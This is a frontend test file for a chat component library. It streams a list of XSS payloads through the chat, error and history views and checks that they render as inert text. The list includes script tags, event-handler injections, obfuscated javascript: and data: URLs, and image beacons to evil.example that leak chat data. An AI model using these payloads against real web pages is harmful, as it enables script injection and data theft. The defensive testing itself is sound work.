import { render, screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { marked } from 'marked';
import { http, HttpResponse } from 'msw';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { Chat, ChatProvider, ChatWithHistory, createSseTransport, preloadMarkdown } from 'colloquy';
import { createChatHandlers, createHistoryDb, createHistoryHandlers, SSE_HEADERS, sseData, sseEvent } from 'colloquy/mocks';
import { setupRecordingServer } from '../helpers/recording-server.js';
import { CANARY_SCRIPT, canaryRan, nextTask, unsafeMarkup, UNTRUSTED_SLOTS, watchUnsafeMarkup } from './dom-safety.js';

// Markdown loads on demand; these tests are about what it renders, so it is there before the first one.
beforeAll(async () => {
  expect(await preloadMarkdown()).toBe(true);
});

// Hostile text through the whole composed chat, from the kit's MSW mocks, with every intermediate DOM checked. Each
// payload is also checked alone, at every streaming prefix, against Markdown in test/components/markdown-xss.test.tsx;
// here they arrive together, token by token, in answers, user messages, error messages and conversation titles.
const { server } = setupRecordingServer();
const STREAM_URL = 'http://localhost/api/chat/stream';

/** One payload of each kind: raw HTML, script URLs and their spellings, data URLs, remote loads, markdown wrappers. */
const HOSTILE_PARTS: readonly string[] = [
  // First: the unclosed <svg> below would swallow it into the SVG namespace, where it never toggles.
  `<details open ontoggle="${CANARY_SCRIPT}">x</details>`,
  '<script>alert(1)</script>',
  `<img src=x onerror="${CANARY_SCRIPT}">`,
  `<svg onload="${CANARY_SCRIPT}">`,
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<a href="javascript:alert(1)">raw link</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '[x](javascript:alert(1))',
  '[x](java&#x09;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<vbscript:msgbox(1)>',
  '![x](https://evil.example/track.png?chat=secret)',
  '![x](//evil.example/x.png)',
  '[ref link][r]\n\n[r]: javascript:alert(1)',
  '[<img src=x onerror=alert(1)>](https://example.com)',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |',
  '- [x] <script>alert(1)</script>\n- [ ] ![t](https://evil.example/t.png)',
  '# <svg onload=alert(1)>',
  '```html\n<script>alert(1)</script>\n```',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
];
const HOSTILE = HOSTILE_PARTS.join('\n\n');

afterEach(() => {
  delete document.body.dataset.pwned;
});

const composer = () => screen.getByRole('textbox', { name: 'Message' });
const log = () => screen.getByRole('log', { name: 'Conversation' });
const answers = () => within(log()).queryAllByRole('article').filter((article) => article.dataset.role === 'assistant');

function renderChat() {
  const user = userEvent.setup();
  render(
    <ChatProvider transport={createSseTransport({ url: STREAM_URL })}>
      <Chat />
    </ChatProvider>,
  );
  return user;
}

/** Types `text` as the user (pasted: user-event would read `{` and `[` as key names) and sends it. */
async function send(user: ReturnType<typeof userEvent.setup>, text: string): Promise<void> {
  await user.click(composer());
  await user.paste(text);
  await user.keyboard('{Enter}');
}

describe('hostile model output through the composed chats renders inert', () => {
  it('Chat: an answer streamed token by token, echoing the user’s own hostile message, is inert in every intermediate DOM', async () => {
    server.use(...Object.values(createChatHandlers({ tokensPerSecond: 1000, reply: (prompt) => `${prompt}\n\n${HOSTILE}` })));
    const user = renderChat();
    const watch = watchUnsafeMarkup(document.body);
    await send(user, `<img src=x onerror="${CANARY_SCRIPT}"> and [me](javascript:alert(1))`);
    await waitFor(() => expect(answers()[0]).toHaveAttribute('data-status', 'complete'), { timeout: 20_000 });
    await nextTask();
    expect(watch.stop()).toEqual([]);
    // The answer arrived over several renders, each checked, and the hostile text is there, as text.
    expect(watch.batches).toBeGreaterThan(5);
    expect(answers()[0]).toHaveTextContent('<script>alert(1)</script>');
    expect(within(log()).getAllByText(/<img src=x onerror=/).length).toBeGreaterThanOrEqual(2);
    expect(canaryRan()).toBe(false);
  }, 30_000);

  it('Chat: a server error whose message is markup shows it as text, before and after the 200', async () => {
    const message = `<img src=x onerror="${CANARY_SCRIPT}"><a href="javascript:alert(1)">help</a>`;
    server.use(
      http.post('*/api/chat/stream', () =>
        new HttpResponse(sseData({ content: 'Partial ' }) + sseEvent('error', { code: 'upstream_unavailable', message }), { headers: SSE_HEADERS }),
      ),
    );
    const user = renderChat();
    const watch = watchUnsafeMarkup(document.body);
    await send(user, 'Hi');
    await waitFor(() => expect(screen.getByRole('alert')).toHaveTextContent(message));

    server.use(http.post('*/api/chat/stream', () => HttpResponse.json({ error: { code: 'server_error', message } }, { status: 500 })));
    await send(user, 'Again');
    await waitFor(() => expect(screen.getAllByRole('alert').at(-1)).toHaveTextContent(message));
    await nextTask();
    expect(watch.stop()).toEqual([]);
    expect(canaryRan()).toBe(false);
  });

  it('ChatWithHistory: a stored conversation with a markup title and hostile messages, loaded from the server', async () => {
    const at = '2025-03-20T10:00:00.000Z';
    const title = `<img src=x onerror="${CANARY_SCRIPT}"> plans`;
    const db = createHistoryDb({
      seed: [
        {
          conversation: { id: 'c-hostile', title, createdAt: at, updatedAt: at },
          messages: [
            { id: 'u1', parentId: null, role: 'user', parts: [{ type: 'text', text: HOSTILE }], createdAt: at, status: 'complete' },
            { id: 'a1', parentId: 'u1', role: 'assistant', parts: [{ type: 'text', text: HOSTILE }], createdAt: at, status: 'complete' },
          ],
        },
      ],
    });
    server.use(...Object.values(createHistoryHandlers({ db, tokensPerSecond: Infinity })));
    const user = userEvent.setup();
    render(<ChatWithHistory baseUrl="http://localhost/api" title="Assistant" />);
    const watch = watchUnsafeMarkup(document.body);
    const nav = screen.getAllByRole('navigation', { name: 'Conversations' })[0]!;
    await user.click(await within(nav).findByRole('button', { name: /^<img src=x onerror=/ }));
    await waitFor(() => expect(within(log()).getAllByRole('article')).toHaveLength(2));
    await nextTask();
    expect(watch.stop()).toEqual([]);
    expect(document.querySelector('[data-slot=conversation-title]')).toHaveTextContent(title);
    expect(canaryRan()).toBe(false);
  });

  describe('negative control: the checks catch unsafe rendering', () => {
    function Unsafe({ text }: { text: string }) {
      return <div data-slot="message-content" dangerouslySetInnerHTML={{ __html: marked.parse(text, { async: false }) }} />;
    }

    it('finds handlers, script URLs, remote images and active elements in marked’s HTML set as innerHTML, and the canary runs', async () => {
      const { container } = render(<Unsafe text={HOSTILE} />);
      const found = unsafeMarkup(container);
      for (const expected of [/^onerror on <img>$/, /^href="javascript:alert\(1\)" on <a>$/, /^image from "https:\/\/evil\.example/, /^<svg> in /, /^<script>/, /^link "https:\/\/example\.com\/?" with rel=""$/]) {
        expect(found, String(expected)).toContainEqual(expect.stringMatching(expected));
      }
      await nextTask();
      expect(canaryRan()).toBe(true);
    });

    it('sees a violation that exists only between two renders', async () => {
      const { container } = render(<div data-slot="message-content" />);
      const slot = container.querySelector(UNTRUSTED_SLOTS)!;
      const watch = watchUnsafeMarkup(container);
      const image = document.createElement('img');
      image.setAttribute('src', 'https://evil.example/pixel.png');
      slot.append(image);
      await nextTask();
      image.remove();
      expect(unsafeMarkup(container)).toEqual([]);
      expect(watch.stop()).toEqual(['image from "https://evil.example/pixel.png"', 'image without referrerpolicy=no-referrer: "https://evil.example/pixel.png"']);
    });
  });
});
